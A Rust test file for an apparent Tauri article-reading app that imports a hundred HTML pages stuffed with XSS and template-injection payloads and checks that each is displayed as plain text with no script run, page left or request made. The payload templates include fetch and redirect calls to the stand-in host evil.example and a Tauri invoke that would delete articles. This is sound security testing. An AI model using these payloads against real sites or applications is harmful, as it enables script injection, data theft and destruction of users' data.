//! What articles hold is shown and never acts: a hundred payloads in every field
//! of real files, in the real window.

use std::path::Path;

use super::session::Window;
use super::{cli, import_ends, run, written};

const N_PAYLOADS: usize = 100;

/// `%` becomes the call that would betray itself.
const TEMPLATES: [&str; 25] = [
    "<script>%</script>",
    "<img src=x onerror=\"%\">",
    "<svg onload=\"%\"></svg>",
    "<iframe srcdoc=\"<script>parent.%</script>\"></iframe>",
    "<a href=\"javascript:%\">read on</a>",
    "\"><script>%</script>",
    "' onmouseover='%' x='",
    "</title><script>%</script>",
    "</textarea><img src=x onerror=%>",
    "<details open ontoggle=\"%\">more</details>",
    "<input autofocus onfocus=\"%\">",
    "<video><source onerror=\"%\"></video>",
    "<body onload=\"%\">",
    "<math><mtext><script>%</script></mtext></math>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<object data=\"https://evil.example/x\"></object>",
    "<form action=https://evil.example/><button autofocus>go</button></form>",
    "<base href=\"https://evil.example/\">",
    "{@html '<img src=x onerror=%>'}",
    "{{constructor.constructor('%')()}}",
    "${%}",
    "javascript:%",
    "<!--><script>%</script>-->",
];

/// What each would do: run, send, leave, or ask the program to delete everything.
const DEEDS: [&str; 4] = [
    "window.acted=1",
    "fetch('https://evil.example/')",
    "location='https://evil.example/'",
    "__TAURI_INTERNALS__.invoke('remove_articles',{articleIds:[1,2,3,4,5,6,7,8,9]})",
];

fn payload(n: usize) -> String {
    TEMPLATES[n % TEMPLATES.len()].replace('%', DEEDS[n / TEMPLATES.len() % DEEDS.len()])
}

/// Characters mark-up gives a meaning, written out: the field then *says* the payload.
fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

/// A page whose every field says payload `n`; its name does as far as a name can.
fn page(home: &Path, n: usize) {
    let raw = payload(n);
    let said = escaped(&raw);
    let html = format!(
        "<!doctype html><html lang=en><head><title>Headline {n:03} {said}</title>\
         <meta property=og:title content=\"Headline {n:03} {said}\">\
         <meta property=og:site_name content=\"Outlet {n} {said}\">\
         <meta name=author content=\"Author {n} {said}\">\
         <meta property=article:published_time content=\"2031-01-04\">\
         <meta name=keywords content=\"{said}\"></head><body><article><h1>Headline {n:03} {said}</h1>\
         <p>Body {n} of the harbour report says {said} and goes on for a while about ferries, ice and the \
         people who wait for both on the pier of the old town.</p><p>Raw: {raw}</p></article></body></html>"
    );
    let name: String = raw.chars().filter(|c| *c != '/').take(120).collect();
    written(home, &format!("pages/{n} {name}.html"), &html);
}

#[test]
fn a_hundred_payloads_in_every_field_stay_text() {
    run(async |home| {
        for n in 0..N_PAYLOADS {
            page(home, n);
        }
        let window = Window::open("hostile", home).await;
        window.find("empty-state").await;
        let address = window.evaluate("location.href").await;
        window.drag_in(&[&home.join("pages")]).let_go();
        import_ends(&window).await;
        window.until("all are listed", async || n_articles(&window).await == N_PAYLOADS).await;
        watch(&window).await;

        // Every article: its row, its text, its furniture, its receipt, what is beside it.
        window.press("nav-articles").await;
        window.find("article-row").await;
        for id in 1..=N_PAYLOADS {
            window.press_control('p').await;
            window.type_into("palette-field", &format!("Headline {:03}", id - 1)).await;
            let wanted = format!("Headline {:03} ", id - 1);
            window
                .wait_until("palette-item", |items| items.iter().any(|item| item.contains(&wanted)))
                .await;
            let at =
                window.texts("palette-item").await.iter().position(|item| item.contains(&wanted));
            window.press_at("palette-item", at.unwrap()).await;
            let title = window
                .wait_until("reader-title", |title| title.concat().starts_with(&wanted))
                .await
                .concat();
            let said: String = payload(id - 1).split_whitespace().collect();
            let shown: String = title.split_whitespace().collect();
            assert!(shown.contains(&said), "payload {} is not shown as it is: {title}", id - 1);
            if id % 10 == 0 {
                assert_untouched(&window, &address).await;
            }
        }
        // Found, and listed with the other files of the import.
        window.type_into("search-field", "harbour report about ferries and ice").await;
        // They say much the same, so that all but a few are folded as copies.
        window.wait_until("hit", |hits| hits.concat().contains("copies")).await;
        window.press("import-files").await;
        window.wait_until("queue-file", |files| files.len() == N_PAYLOADS).await;
        window.press("queue-receipt").await;
        window.wait_until("receipt-kept", |kept| !kept.concat().is_empty()).await;
        window.screenshot("hostile");
        assert_untouched(&window, &address).await;
        assert_eq!(n_articles(&window).await, N_PAYLOADS, "no article was removed");
        window.close().await;
    });
    // The same files again through the other door.
    run(async |home| {
        page(home, 3);
        cli(home, &["import", home.join("pages").to_str().unwrap()]);
    });
}

async fn n_articles(window: &Window) -> usize {
    let text = window.texts("nav-articles").await.concat();
    text.chars().filter(char::is_ascii_digit).collect::<String>().parse().unwrap_or(0)
}

/// Notes every attempt to load or to leave from now on.
async fn watch(window: &Window) {
    window
        .evaluate(
            "(() => { window.broken = [];
               document.addEventListener('securitypolicyviolation', (e) => window.broken.push(e.blockedURI));
               window.addEventListener('beforeunload', () => window.broken.push('left')); return 1; })()",
        )
        .await;
}

async fn assert_untouched(window: &Window, address: &serde_json::Value) {
    assert_eq!(window.evaluate("location.href").await, *address, "the page was left");
    assert_eq!(window.evaluate("window.acted ?? null").await, serde_json::Value::Null);
    assert_eq!(
        window.evaluate("window.broken").await,
        serde_json::json!([]),
        "something was tried"
    );
    let strangers = window
        .evaluate(
            "document.querySelectorAll('#app :is(script, img, iframe, object, embed, video, form, base, meta, link, style, math, [onload], [onerror], [onfocus], [onmouseover], [ontoggle], [href])').length",
        )
        .await;
    assert_eq!(strangers, 0, "an element came from an article");
    let asked = window
        .evaluate("performance.getEntriesByType('resource').map((e) => e.name).filter((n) => n.includes('evil'))")
        .await;
    assert_eq!(asked, serde_json::json!([]), "something was asked for");
}
